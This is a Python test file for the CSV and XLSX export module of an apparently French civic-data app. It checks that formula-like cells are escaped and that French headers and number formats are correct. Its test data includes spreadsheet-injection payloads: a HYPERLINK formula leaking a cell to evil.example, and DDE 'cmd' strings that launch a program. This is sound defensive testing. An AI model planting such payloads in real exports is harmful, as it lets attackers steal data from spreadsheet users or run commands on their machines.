"""Exported cells cannot run as spreadsheet formulas (CSV and XLSX)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from ihs.exports import escape_cell, to_csv_bytes, to_xlsx_bytes

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "=1+1",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["Kerourien", "1 789 abonnés", "réunion = succès", "", "a-b", "18 %"]


@pytest.mark.parametrize("value", DANGEROUS, ids=range(len(DANGEROUS)))
def test_formula_like_text_gets_a_leading_apostrophe(value):
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS, ids=range(len(HARMLESS)))
def test_ordinary_text_is_left_alone(value):
    assert escape_cell(value) == value


def test_numbers_stay_numbers():
    assert escape_cell(-3) == -3 and escape_cell(2.5) == 2.5


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"note": DANGEROUS + HARMLESS, "n": range(len(DANGEROUS + HARMLESS))})


def test_csv_cells_are_escaped():
    text = to_csv_bytes(_frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    # A bare carriage return inside an unquoted cell starts a new row in Excel (and in csv.reader):
    # the rest of the cell would then begin a line, unescaped.
    assert len(rows) == len(_frame()) + 1, "a cell broke its row in two"
    notes = [row[0] for row in rows[1:]]
    for value in DANGEROUS:
        assert "'" + value in notes, value
    for cell in notes:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_cells_are_text_not_formulas():
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(_frame())))
    sheet = book.active
    values = [sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)]
    for r in range(2, sheet.max_row + 1):
        assert sheet.cell(row=r, column=1).data_type != "f"
    for value in DANGEROUS:
        assert "'" + value in values, value


def _french_excel(data: bytes) -> list[list[str]]:
    """The cells as French Excel splits them: `;`, UTF-8 with a BOM, CRLF rows."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_cells_read_as_a_french_user_expects():
    from datetime import date, datetime
    from decimal import Decimal

    df = pd.DataFrame(
        {
            "reported_at": [datetime(2026, 11, 30, 10, 15), datetime(2026, 11, 30, 18, 0)],
            "as_of": [date(2022, 12, 9), None],
            "voters": [10.0, float("nan")],  # whole numbers in a column with an empty cell
            "monthly_price_eur": [Decimal("1.0"), Decimal("1.24")],
            "uptake": [0.2016, 0.5],
            "is_correction": [True, False],
            "notes": ["=1+1", "-2 bureaux"],
        }
    )
    header, *rows = _french_excel(to_csv_bytes(df))
    assert header == [
        "Heure du relevé",
        "Date du relevé",
        "Votants",
        "Prix mensuel par logement (€)",
        "Taux d'adhésion",
        "Correction",
        "Notes",
    ]
    assert rows == [
        ["30/11/2026 10:15", "09/12/2022", "10", "1,00", "0,2016", "Oui", "'=1+1"],
        ["30/11/2026 18:00", "", "", "1,24", "0,5", "Non", "'-2 bureaux"],
    ]


def test_every_exportable_column_has_a_french_header():
    from ihs.exports import COLUMN_LABELS, EXPORTABLE

    missing = sorted({c.name for t in EXPORTABLE.values() for c in t.columns} - set(COLUMN_LABELS))
    assert missing == []


def test_xlsx_keeps_real_dates_and_numbers_with_readable_widths():
    from datetime import datetime

    df = pd.DataFrame(
        {
            "reported_at": [datetime(2026, 11, 30, 10, 15)],
            "voters": [10.0],
            "correction_reason": ["erreur de lecture de la feuille d'émargement"],
        }
    )
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(df))).active
    assert [c.value for c in ws[1]] == ["Heure du relevé", "Votants", "Raison de la correction"]
    when, voters, _reason = ws[2]
    assert when.value == datetime(2026, 11, 30, 10, 15) and when.number_format == "DD/MM/YYYY HH:MM"
    assert voters.value == 10 and isinstance(voters.value, int)
    assert ws.column_dimensions["C"].width >= len("erreur de lecture de la feuille d'émargement")
    assert ws.column_dimensions["A"].width >= len("30/11/2026 10:15")
